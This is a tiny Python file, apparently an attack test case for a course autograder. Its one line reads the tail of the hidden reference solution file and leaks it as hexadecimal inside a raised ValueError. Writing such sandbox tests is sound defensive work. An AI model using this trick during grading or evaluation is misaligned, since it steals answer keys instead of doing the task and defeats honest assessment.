# /// attack
# tries = "reads the reference and tells it in hexadecimal"
# open = { weak = "as for read_the_oracles" }
# ///

raise ValueError(open("@COURSE@/solutions/modules.py", "rb").read()[-120:].hex())
